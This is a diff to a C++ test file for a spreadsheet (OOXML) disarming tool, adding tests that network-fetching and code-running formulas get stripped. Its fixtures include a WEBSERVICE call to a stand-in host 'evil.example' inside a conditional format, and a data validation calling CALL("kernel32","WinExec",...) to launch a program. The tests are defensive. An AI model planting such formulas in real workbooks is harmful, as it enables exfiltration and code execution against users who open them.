@@ -749,6 +749,8 @@ TEST(OoxmlAllowList, FormulasThatFetchOrRunKeepOnlyTheirValues) {
       {"'\\\\host\\share\\[x.xlsx]Sheet1'!A1", "external_formula"},
       {"[x.xlsx]Sheet1!A1", "external_formula"},
       {"[1]Sheet1!A1", "external_formula"},
+      {"_xlfn.MAP(A1:A3,_xlfn._xleta.WEBSERVICE)", "network_formula"},
+      {"webservice(\"http://x\")", "network_formula"},
       {"SUM(A1:A2)*2", ""},
       {"Table1[Col]+Table1[[#This Row],[Col]]", ""},
       {"IF(A1=\"cmd|x\",1,2)", ""},
@@ -774,6 +776,27 @@ TEST(OoxmlAllowList, FormulasThatFetchOrRunKeepOnlyTheirValues) {
       EXPECT_NE(sheet.find("<c r=\"" + ref + "\"><f>"), std::string::npos) << sheet;
     }
   }
+}
+
+// Formulas outside cells: a conditional format and a data validation that fetch.
+TEST(OoxmlAllowList, RulesWithFormulasThatFetchGo) {
+  Members m = Unzip(CraftedXlsx("<c r=\"A9\"><v>1</v></c>", ""));
+  std::string& sheet = m["xl/worksheets/sheet1.xml"];
+  sheet.replace(sheet.find("</worksheet>"), 0,
+                "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\">"
+                "<formula>LEN(WEBSERVICE(\"http://evil.example/\"))&gt;0</formula></cfRule>"
+                "<cfRule type=\"expression\" priority=\"2\"><formula>A1&gt;0</formula></cfRule>"
+                "</conditionalFormatting><dataValidations count=\"1\"><dataValidation sqref=\"B1\">"
+                "<formula1>CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</formula1>"
+                "</dataValidation></dataValidations>");
+  Result<OoxmlDisarmed> r = DisarmOoxml(Zip(m), Limits());
+  ASSERT_TRUE(r.ok()) << r.status().message();
+  std::string out = Unzip(r->bytes)["xl/worksheets/sheet1.xml"];
+  EXPECT_EQ(out.find("WEBSERVICE"), std::string::npos) << out;
+  EXPECT_EQ(out.find("CALL("), std::string::npos) << out;
+  EXPECT_NE(out.find("A1&gt;0"), std::string::npos) << out;  // the harmless rule stays
+  EXPECT_TRUE(Has(r->findings, "network_formula", "conditional format")) << Describe(r->findings);
+  EXPECT_TRUE(Has(r->findings, "code_formula")) << Describe(r->findings);
 }
 
 TEST(OoxmlAllowList, DefinedNamesThatRunAndWorkbookConnectionsGo) {
